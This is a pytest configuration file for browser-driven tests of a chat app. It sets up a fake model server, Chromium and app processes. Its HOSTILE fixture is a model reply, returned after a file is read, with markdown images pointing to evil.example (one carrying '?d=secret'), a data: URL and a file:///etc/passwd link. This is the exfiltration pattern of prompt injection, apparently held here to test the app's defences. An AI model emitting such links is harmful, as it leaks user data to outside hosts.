"""The app as a person meets it: a process of its own, a model server on loopback, headless
Chromium."""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Protocol

import pytest
from playwright.sync_api import (
    Browser,
    BrowserContext,
    Page,
    ViewportSize,
    expect,
    sync_playwright,
)

from tests.app_process import App, free_port, is_free
from tests.live_kit import wait_until
from tests.messages_server import Failure, Json, MessagesServer, Turn

CHROMIUM_FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--process-per-site",
    "--js-flags=--no-opt --invocation-count-for-maglev=2000",
]
"""The last two for what a test takes: one process draws all its pages, and none of them lasts until
its program, compiled with more care, would run the faster for it."""
CHROMIUMS = ("chromium-headless-shell", "chromium", "chromium-browser")
"""Of one engine; the first draws no window around the page, which takes a third less of a core."""
PATIENCE = 60_000
"""Milliseconds to wait for something to appear on a busy machine; nothing is measured by it."""

LARGE, PHONE = (1920, 1080, "light"), (390, 844, "dark")
"""Most ways through Leaf are gone in one of them, and looked at in the other where they end."""
VIEWPORT: ViewportSize = {"width": 1280, "height": 900}

expect.set_options(timeout=PATIENCE)


def find_chromium() -> str | None:
    """The program, if one is installed."""
    return next(filter(None, map(shutil.which, CHROMIUMS)), None)


LONG = "\n\n".join(f"Paragraph {i} of a long answer that takes its time." for i in range(1, 41))
ENDLESS = "\n\n".join(f"Paragraph {i} of a long answer that takes its time." for i in range(1, 501))
"""To be stopped: longer than a busy machine takes to get there."""
HOSTILE = """Here is **what I found**.

![picture](https://evil.example/?d=secret) ![](https://evil.example/b.png) !![twice](https://evil.example/c.png)

![by reference][ref] <img src="https://evil.example/d.png"> [data](data:text/html,<b>x</b>) [file](file:///etc/passwd)

| a |
|---|
| ![cell](https://evil.example/e.png) |

[ref]: https://evil.example/f.png
"""


def brain(body: Json) -> Turn | Failure:
    """What the model of these tests answers, by the words of the newest question."""
    question, results = _newest_question(body)
    if "thorough" in question and not results:
        return Turn.call("list_files", text="I look at the files first.")
    if "thorough" in question or "long" in question:
        return Turn.say(LONG, pieces=120, delay=0.12)
    if "endless" in question:
        return Turn.say(ENDLESS, pieces=1_500, delay=0.12)
    if "hostile" in question:
        return Turn.say(HOSTILE) if results else Turn.call(("read_file", {"file": "f1"}))
    if "Drive" in question and not results:
        return Turn.call(("search_drive", {"query": "budget"}))
    if "refuse" in question:
        return Failure.unauthorized()
    if "total" in question and not results:
        return Turn.call(
            (
                "query_tables",
                {
                    "sql": "SELECT region, sum(revenue) AS revenue FROM sales GROUP BY region "
                    "ORDER BY 2 DESC"
                },
            ),
            thinking="Sum the revenue by region.",
        )
    if "total" in question:
        return Turn.say("The **North** leads with 300.\n\n```sql\nSELECT 1\n```\n\nThat is all.")
    return Turn.say(f"You asked: {question}")


def _newest_question(body: Json) -> tuple[str, bool]:
    """The words of the newest question, and whether tools have answered since."""
    results = False
    for message in reversed(body["messages"]):
        blocks = (
            message["content"]
            if isinstance(message["content"], list)
            else [{"type": "text", "text": message["content"]}]
        )
        if message["role"] != "user":
            continue
        if any(block["type"] == "tool_result" for block in blocks):
            results = True
            continue
        words = [
            line
            for block in blocks
            if block["type"] == "text"
            for line in block["text"].splitlines()
        ]
        return "\n".join(
            line for line in words if not re.match(r"\[Attached", line)
        ).strip(), results
    return "", results


def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
    """A journey has many steps, each of which may take its time on a busy machine."""
    for item in items:
        if (
            item.path.is_relative_to(Path(__file__).parent)
            and item.get_closest_marker("timeout") is None
        ):
            item.add_marker(pytest.mark.timeout(600))


@pytest.fixture(scope="session")
def model_server() -> Iterator[MessagesServer]:
    with MessagesServer(brain) as server:
        yield server


_ports: list[int] = []
"""Where apps of this process have been, for those to come: what Chromium has fetched from an address
it need not fetch and compile again."""


@contextmanager
def _starting(folder: Path) -> Iterator[Callable[..., App]]:
    """Starts apps, which end with the context: `start(home, model_url, secrets=…,
    LEAF_RUNS="1")`."""
    started: list[App] = []

    def start(home: Path | None = None, model_url: str = "", **options: Any) -> App:
        port = next((_ports.pop(i) for i, one in enumerate(_ports) if is_free(one)), free_port())
        started.append(App(home or folder / "home", model_url, port=port, **options).start())
        return started[-1]

    try:
        yield start
    finally:
        for running in started:
            running.stop()
            _ports.insert(0, running.port)


@pytest.fixture(scope="session")
def app(model_server: MessagesServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
    """One running app for the journeys that leave each other alone."""
    with _starting(tmp_path_factory.mktemp("session")) as start:
        yield start(model_url=model_server.url)


@pytest.fixture
def new_app(tmp_path: Path) -> Iterator[Callable[..., App]]:
    """Starts apps of one test."""
    with _starting(tmp_path) as start:
        yield start


@pytest.fixture(scope="module")
def module_app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Callable[..., App]]:
    """Starts an app that the tests of one file share: each opens a chat of its own there."""
    with _starting(tmp_path_factory.mktemp("module")) as start:
        yield start


@pytest.fixture(scope="session")
def launch() -> Iterator[Callable[..., Browser]]:
    """Starts Chromium with further flags."""
    chromium = find_chromium()
    if chromium is None:
        pytest.skip("chromium is not installed")
    with sync_playwright() as playwright:
        yield lambda *flags: playwright.chromium.launch(
            executable_path=chromium, args=[*CHROMIUM_FLAGS, *flags]
        )


@pytest.fixture(scope="session")
def browser(launch: Callable[..., Browser]) -> Iterator[Browser]:
    running = launch()
    yield running
    running.close()


@pytest.fixture(autouse=True)
def close_what_is_left(browser: Browser) -> Iterator[None]:
    """A page that a test leaves open goes on: it draws, and asks for a server that is gone, beside
    all tests behind it."""
    before = list(browser.contexts)
    yield
    for one in browser.contexts:
        if one not in before:
            one.close()


@pytest.fixture
def own_context(browser: Browser) -> Iterator[BrowserContext]:
    """For a test that leaves behind in it what cannot be taken away: scripts, listeners."""
    opened = browser.new_context(viewport=VIEWPORT)
    opened.set_default_timeout(PATIENCE)
    yield opened
    opened.close()


@pytest.fixture(scope="session")
def kept_context(browser: Browser) -> Iterator[BrowserContext]:
    """With one page that stays: all pages of the host are drawn by its process, which would otherwise
    end with a test's page and compile Leaf's program anew for the next."""
    opened = browser.new_context(viewport=VIEWPORT)
    stays = opened.new_page()
    stays.route("**/*", lambda route: route.fulfill(body=""))
    stays.goto("http://127.0.0.1/")
    yield opened
    opened.close()


@pytest.fixture
def context(kept_context: BrowserContext) -> Iterator[BrowserContext]:
    """A browser that nobody has used, but for the page's program, which it fetched and compiled for
    an earlier test."""
    kept_context.set_default_timeout(PATIENCE)
    stays = list(kept_context.pages)
    yield kept_context
    for page in kept_context.pages:
        if page not in stays:
            page.close()
    kept_context.set_storage_state({})
    kept_context.clear_permissions()
    kept_context.unroute_all()


@pytest.fixture
def page(context: BrowserContext) -> Page:
    return context.new_page()


def look_at(page: Page, width: int, height: int, scheme: str) -> None:
    """In a window of this size, in pixels, light or dark."""
    page.set_viewport_size({"width": width, "height": height})
    page.emulate_media(color_scheme="dark" if scheme == "dark" else "light")


def fits(page: Page) -> bool:
    """Whether neither the page nor what scrolls it up and down can be pushed sideways."""
    return bool(
        page.evaluate(
            "() => [document.documentElement, document.querySelector('[data-testid=stMain]')]"
            ".every((one) => one.scrollWidth <= one.clientWidth + 1)"
        )
    )


def expect_fits(page: Page, look: tuple[int, int, str]) -> None:
    """What stands there in one look, in this one as well."""
    look_at(page, *look)
    wait_until(lambda: fits(page))
    page.wait_for_timeout(500)  # also once what measures its own width has drawn itself anew
    assert fits(page)


class OpenPage(Protocol):
    """Opens a page of a size, in pixels, and a look."""

    def __call__(self, width: int, height: int = 900, scheme: str = "light") -> Page: ...


@pytest.fixture
def open_page(context: BrowserContext) -> OpenPage:
    def opened(width: int, height: int = 900, scheme: str = "light") -> Page:
        page = context.new_page()
        look_at(page, width, height, scheme)
        return page

    return opened


@pytest.fixture
def sales(tmp_path: Path) -> Path:
    """A small table whose sums are known: North 300, South 120."""
    path = tmp_path / "sales.csv"
    path.write_text("region,revenue\nNorth,100\nSouth,120\nNorth,200\n")
    return path
